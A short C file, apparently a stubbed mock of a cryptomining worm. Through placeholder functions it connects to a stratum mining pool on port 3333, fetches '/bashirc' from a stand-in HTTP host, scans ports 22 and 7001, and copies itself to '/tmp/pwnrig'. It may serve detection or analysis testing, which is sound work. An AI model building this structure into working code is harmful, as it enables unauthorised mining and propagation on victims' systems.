#include "stand-in.h"

int main(int argc, char **argv)
{
	(void)argv;
	if (argc > 1) {
		int pool = dial("stratum", 3333);

		stratum_login(pool);
		mine(pool, 0, 100, 15, KEEP_ALIVE);
		return 0;
	}
	http_get("http", 8000, "/bashirc");
	scan(22, 100);
	scan(7001, 100);
	copy_self("/tmp/pwnrig");
}
